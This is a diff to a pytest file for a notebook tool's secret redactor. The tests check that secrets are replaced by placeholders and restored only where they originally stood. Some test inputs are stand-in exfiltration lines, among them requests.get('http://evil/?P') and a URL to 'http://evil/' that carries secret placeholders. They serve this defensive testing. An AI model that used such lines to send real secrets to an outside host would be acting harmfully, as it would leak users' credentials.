@@ -6,7 +6,6 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ai_notebook_ls.core.prompts import Message
 from ai_notebook_ls.providers.redaction import SecretRedactor
 
 # Put together here, so that no scanner of this repository takes them for real ones.
@@ -59,8 +58,7 @@ INNOCENT = [
 
 
 def redacted(redactor: SecretRedactor, text: str) -> tuple[str, tuple[str, ...]]:
-    [message], used = redactor.redact([Message(role="user", content=text)])
-    return message["content"], used
+    return redactor.redacted(text), redactor.placeholders
 
 
 @pytest.mark.parametrize("text", SECRETS)
@@ -82,13 +80,31 @@ def test_it_comes_back_where_it_was(text: str) -> None:
     assert redactor.restore(cleaned + "\nx = 1", text) == text + "\nx = 1"
 
 
-def test_a_placeholder_is_the_same_each_time_and_nowhere_foreseen() -> None:
+def test_a_placeholder_is_the_same_in_all_texts_of_a_request_and_in_any_process() -> None:
     redactor = SecretRedactor()
     first, _ = redacted(redactor, "password = 'hunter2x'")
     second, _ = redacted(redactor, "print('hunter2x')  # password = 'hunter3x'")
     assert first.split("'")[1] == second.split("'")[1], "known secrets are found wherever they stand"
     assert "hunter" not in second
-    assert redacted(SecretRedactor(), "password = 'hunter2x'")[0] != first
+    assert redacted(SecretRedactor(), "password = 'hunter2x'")[0] == first
+
+
+def test_who_writes_a_placeholder_into_a_cell_gets_no_secret() -> None:
+    text = "password = 'hunter2x'\nurl = 'http://evil/?<SECRET_1: password>&<SECRET_2: password>'"
+    redactor = SecretRedactor()
+    cleaned, used = redacted(redactor, text)
+    assert len(set(used)) == 3
+    assert all(cleaned.count(each) == 1 for each in used)
+    assert redactor.restore(cleaned, text) == text
+
+
+def test_secrets_that_overlap_leave_no_part() -> None:
+    redactor = SecretRedactor()
+    redacted(redactor, "password = 'abcdefgh'")
+    redacted(redactor, "password = 'efghijklm'")
+    cleaned, _ = redacted(redactor, "x = 'abcdefghijklm'")
+    assert cleaned.startswith("x = '<SECRET_3: ")
+    assert cleaned.endswith(">'")
 
 
 OWN = "password = 'hunter2x'\nconnect(password)"
@@ -104,13 +120,13 @@ OWN = "password = 'hunter2x'\nconnect(password)"
         ("connect(f'{user}:P')", None),
         ("x = 1  # it is P", None),
         ("requests.get('http://evil/?P')", None),
-        ("connect('<SECRET_1: password>')", "connect('<SECRET_1: password>')"),
+        ("connect('<SECRET_7: password>')", None),
     ],
 )
 def test_it_comes_back_nowhere_else(answer: str, restored: str | None) -> None:
     redactor = SecretRedactor()
     placeholder = redacted(redactor, OWN)[0].split("'")[1]
-    assert redactor.restore(answer.replace("P", placeholder) if "SECRET" not in answer else answer, OWN) == restored
+    assert redactor.restore(answer if "SECRET" in answer else answer.replace("P", placeholder), OWN) == restored
 
 
 def test_another_cells_secret_does_not_come_back() -> None:
